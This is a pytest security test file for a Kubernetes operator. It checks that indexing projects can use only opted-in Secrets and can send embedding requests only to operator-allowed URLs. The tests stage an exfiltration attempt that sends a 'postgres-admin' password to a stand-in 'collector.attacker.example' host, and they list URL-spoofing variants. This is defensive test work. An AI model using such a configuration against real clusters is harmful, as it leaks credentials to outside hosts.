"""Item 6: a project may only use Secrets that opted in (label codebase.mcp.dev/usable=true), and only
send embedding requests to URLs the operator allows (--allowed-embedding-url).

Before: `spec.embedding.apiKeySecret` could name any Secret of the namespace (the database admin's,
another team's token) and the indexer Job sent its value as a bearer token to whatever
`spec.embedding.url` the project's author chose.
"""
from __future__ import annotations

import pytest

from codebase_operator.specs import InvalidSpec, check_embedding_url
from tests.security.operator_support import *  # noqa: F401,F403
from tests.security.operator_support import RUNS, SECRETS, create_secret, jobs_of, ready_project, until_condition
from tests.support.resources import condition, run_manifest

ATTACKER_URL = "https://collector.attacker.example/v1"


def embedding(url: str = ATTACKER_URL, secret: str = "postgres-admin", key: str = "password") -> dict:
    return {"provider": "openai", "model": "text-embedding-3-small", "url": url,
            "apiKeySecret": {"name": secret, "key": key}}


@pytest.mark.slow
async def test_a_secret_that_did_not_opt_in_is_refused_until_labelled(
        k8s_cluster, codebase_operator, test_kubelet, unique_project_id, drop_databases, repo):
    drop_databases.append(unique_project_id)
    await create_secret(k8s_cluster, "postgres-admin", {"password": "admin-password-do-not-leak"})
    await ready_project(k8s_cluster, "exfil", unique_project_id, path=repo, embedding=embedding())

    await k8s_cluster.client.create(RUNS, "default", run_manifest("steal", "exfil"))
    run = await until_condition(k8s_cluster, RUNS, "steal", "Succeeded", "False", "InvalidSpec")
    message = condition(run, "Succeeded")["message"]
    assert "spec.embedding.apiKeySecret" in message and "'postgres-admin'" in message
    assert "kubectl label secret postgres-admin -n default codebase.mcp.dev/usable=true" in message
    assert not await jobs_of(k8s_cluster, "steal"), "no Job may read the Secret"
    assert "activeRun" not in (await k8s_cluster.client.get("codebase.mcp.dev/v1alpha1/codebaseprojects",
                                                              "default", "exfil"))["status"]

    # The owner of the Secret opts in on purpose: the next run gets its Job (held: nothing is sent here).
    await k8s_cluster.client.patch(SECRETS, "default", "postgres-admin",
                                   {"metadata": {"labels": {"codebase.mcp.dev/usable": "true"}}})
    test_kubelet.hold("allowed")
    await k8s_cluster.client.create(RUNS, "default", run_manifest("allowed", "exfil"))
    await until_condition(k8s_cluster, RUNS, "allowed", "Succeeded", "Unknown", "Pending")
    env = {var["name"]: var for var in
           (await jobs_of(k8s_cluster, "allowed"))[0]["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["CODEBASE_MCP_EMBEDDING_API_KEY"]["valueFrom"]["secretKeyRef"] == {"name": "postgres-admin",
                                                                                 "key": "password"}
    await k8s_cluster.client.patch(RUNS, "default", "allowed", {"spec": {"cancel": True}})
    await until_condition(k8s_cluster, RUNS, "allowed", "Succeeded", "False", "Cancelled")


@pytest.mark.slow
async def test_git_credentials_and_the_operators_own_secrets(
        k8s_cluster, codebase_operator, unique_project_id, drop_databases, repo):
    drop_databases.append(unique_project_id)
    await create_secret(k8s_cluster, "deploy-key", {"username": "ci", "password": "ci-token-do-not-leak"})
    await ready_project(k8s_cluster, "gitty", unique_project_id, source={
        "git": {"url": "https://git.example.com/team/repo.git", "credentialsSecret": "deploy-key"}})
    await k8s_cluster.client.create(RUNS, "default", run_manifest("clone", "gitty"))
    run = await until_condition(k8s_cluster, RUNS, "clone", "Succeeded", "False", "InvalidSpec")
    assert "spec.source.git.credentialsSecret" in condition(run, "Succeeded")["message"]
    assert "codebase.mcp.dev/usable=true" in condition(run, "Succeeded")["message"]

    # A project's database Secret (made by the operator) is never usable by a project, even labelled.
    await k8s_cluster.client.patch(SECRETS, "default", "gitty-db",
                                   {"metadata": {"labels": {"codebase.mcp.dev/usable": "true"}}})
    await k8s_cluster.client.patch("codebase.mcp.dev/v1alpha1/codebaseprojects", "default", "gitty", {
        "spec": {"source": {"git": {"url": "https://git.example.com/team/repo.git",
                                    "credentialsSecret": "gitty-db"}}}})
    await k8s_cluster.client.create(RUNS, "default", run_manifest("owner-creds", "gitty"))
    run = await until_condition(k8s_cluster, RUNS, "owner-creds", "Succeeded", "False", "InvalidSpec")
    assert "operator's own database credentials" in condition(run, "Succeeded")["message"]

    # A Secret that does not exist is named as such.
    await k8s_cluster.client.patch("codebase.mcp.dev/v1alpha1/codebaseprojects", "default", "gitty", {
        "spec": {"source": {"git": {"url": "https://git.example.com/team/repo.git",
                                    "credentialsSecret": "nowhere"}}}})
    await k8s_cluster.client.create(RUNS, "default", run_manifest("missing", "gitty"))
    run = await until_condition(k8s_cluster, RUNS, "missing", "Succeeded", "False", "InvalidSpec")
    assert "'nowhere', which does not exist" in condition(run, "Succeeded")["message"]


@pytest.mark.slow
async def test_an_operator_allow_list_refuses_other_embedding_urls(
        k8s_cluster, configured_operator, test_kubelet, unique_project_id, drop_databases, repo):
    drop_databases.append(unique_project_id)
    await configured_operator(allowed_embedding_urls=("https://llm.internal.example/v1",))
    await create_secret(k8s_cluster, "llm-key", {"token": "sk-team-key"},
                        labels={"codebase.mcp.dev/usable": "true"})
    await ready_project(k8s_cluster, "elsewhere", unique_project_id, path=repo,
                        embedding=embedding(secret="llm-key", key="token"))
    await k8s_cluster.client.create(RUNS, "default", run_manifest("send", "elsewhere"))
    run = await until_condition(k8s_cluster, RUNS, "send", "Succeeded", "False", "InvalidSpec")
    message = condition(run, "Succeeded")["message"]
    assert ATTACKER_URL in message and "https://llm.internal.example/v1" in message
    assert "--allowed-embedding-url" in message
    assert not await jobs_of(k8s_cluster, "send")


@pytest.mark.parametrize("url, allowed", [
    ("https://llm.internal.example/v1", True),
    ("https://llm.internal.example/v1/", True),
    ("https://llm.internal.example:443/v1/embeddings", True),
    ("https://LLM.internal.example/v1", True),
    ("https://llm.internal.example/v10", False),  # a path prefix ends at a segment
    ("http://llm.internal.example/v1", False),  # the scheme is part of the prefix
    ("https://llm.internal.example:8443/v1", False),
    ("https://llm.internal.example.attacker.example/v1", False),
    ("https://llm.internal.example@attacker.example/v1", False),
    ("https://ollama.internal.example:11434/api", True),  # a bare host entry: any path
    ("https://ollama.internal.example/api", False),  # ... but its port
])
def test_allow_list_entries_match_scheme_host_port_and_path(url, allowed):
    entries = ("https://llm.internal.example/v1", "ollama.internal.example:11434")
    if allowed:
        check_embedding_url(url, entries)
    else:
        with pytest.raises(InvalidSpec, match="not allowed by this operator"):
            check_embedding_url(url, entries)


def test_without_an_allow_list_any_url_is_accepted():
    check_embedding_url(ATTACKER_URL, ())
